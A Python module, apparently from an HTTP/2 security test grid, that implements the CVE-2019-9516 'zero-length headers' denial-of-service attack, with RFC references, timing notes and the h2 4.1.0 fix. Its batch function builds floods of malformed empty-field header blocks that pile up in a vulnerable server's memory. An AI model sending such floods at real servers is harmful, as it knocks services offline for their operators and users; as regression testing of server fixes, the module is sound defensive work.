"""Zero-length headers (CVE-2019-9516, "0-Length Headers Leak"): header blocks of fields with an empty name
and an empty value, which a request may not carry (RFC 9113 section 8.2.1: a field name is a token, so
the request is malformed) and which some servers allocated and kept for the connection's life."""
from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import literal, request

FIELDS = 1500  # per block: 1,500 x 32 octets stays under a 64 KiB header list limit, so the fields are decoded
BLOCKS = 10  # per write
EMPTY = literal(b"", b"")


def batch(conn) -> bytes:
    block = request(conn) + EMPTY * FIELDS
    return b"".join(conn.headers(conn.stream_id(), block) for _ in range(BLOCKS))


ATTACK = Attack(
    key="zero-length-headers", title="Zero-length headers", cve="CVE-2019-9516",
    rfc="RFC 9113 section 8.2.1 (field validity), section 8.1.1 (malformed requests)",
    sends=f"requests with {FIELDS:,} empty-name, empty-value fields each, {BLOCKS} per write, never reading",
    batch=batch, reads=False,
    # 6 s: the grid's faulty control (Python's h2 decoding 1,500 fields a block) keeps about 7 MiB a second of them,
    # which past 3 s is not yet clear of the judge's 16 MiB
    seconds=6.0,
    fixes=(Fix("h2", "4.1.0", "empty header names refused (h2/utilities.py _reject_empty_header_names: in the 4.1.0 "
                              "wheel, not in 4.0.0's)"),),
)
